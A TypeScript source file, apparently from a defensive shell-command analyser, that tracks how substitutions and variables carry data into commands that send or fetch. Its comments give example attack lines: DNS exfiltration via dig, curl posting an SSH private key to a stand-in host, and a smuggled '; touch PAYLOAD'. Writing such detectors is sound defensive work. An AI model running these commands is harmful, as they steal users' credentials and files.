import type { SimpleCommand } from "../shell/script-model.js";
import type { Analyser } from "./analyser.js";
import type { Arg, Stdin } from "./api.js";
import { holds } from "./collector.js";
import type { Flow } from "./flow.js";
import { redirects } from "./redirects.js";

// One simple command: its words and their substitutions, its redirections, the variables it
// assigns, then the program it runs (Analyser.invoke) with what its words carry.

/** What a simple command fetched, lists and prints; a bare assignment sets the shell's variables. */
export function simpleCommand(an: Analyser, cmd: SimpleCommand, stdin: Stdin): Flow {
  let fetched = false;
  const fetchedArgs = new Set<Arg>();
  // What the arguments' substitutions read is in the words the program gets (`dig $(cat f).x.h`),
  // and so is what their variables hold (`curl -d "$K" h` after `K=$(cat ~/.ssh/id_rsa)`).
  const [args, argCarries] = an.tap(() => {
    const args = cmd.words.map((w) => an.arg(w));
    for (const a of args)
      if (an.substitutions(a)) {
        fetchedArgs.add(a);
        a.fetched = true;
        fetched = true;
      }
    return args;
  });
  // Whole: a question or a refusal shows what runs, and a cut could hide `; touch PAYLOAD`.
  const source = cmd.source;
  const input = redirects(an, cmd.redirects, args[0]?.value.exact ?? "(command)", source, stdin);
  const standalone = args.length === 0;
  for (const as of [...cmd.assigns, ...cmd.declares]) {
    const [value, held] = an.tap(() => {
      const value = as.value === undefined ? undefined : an.arg(as.value);
      if (value !== undefined && an.substitutions(value)) fetched = true;
      return value;
    });
    for (const e of as.elements ?? []) an.substitutions(an.arg(e));
    const run = an.runFor(standalone ? "(assignment)" : (args[0]?.value.exact ?? "(command)"), source, input);
    if (value !== undefined) an.variable(run, as.name, value);
    if (standalone || cmd.declares.includes(as)) {
      if (value !== undefined) an.hold(as.name, held);
      an.vars.set(
        as.name,
        value === undefined
          ? an.vars.get(as.name)
          : value.value.dynamic === undefined
            ? value.value.text
            : undefined,
      );
    }
  }
  if (standalone) return { fetched };
  const sendsBefore = an.sends;
  const flow = an.invoke(args[0] as Arg, args.slice(1), input, source, fetchedArgs);
  // A program that sends or fetches carries its words out, and with them what made them.
  if (an.sends > sendsBefore && holds(argCarries))
    an.runFor(args[0]?.value.exact ?? "(command)", source, input).sendsCarried(argCarries);
  return {
    fetched: fetched || flow.fetched,
    words: args.slice(1),
    ...(flow.lists === undefined ? {} : { lists: flow.lists }),
    ...(flow.listNames === undefined ? {} : { listNames: flow.listNames }),
    ...(flow.fetchedBy === undefined ? {} : { fetchedBy: flow.fetchedBy }),
  };
}
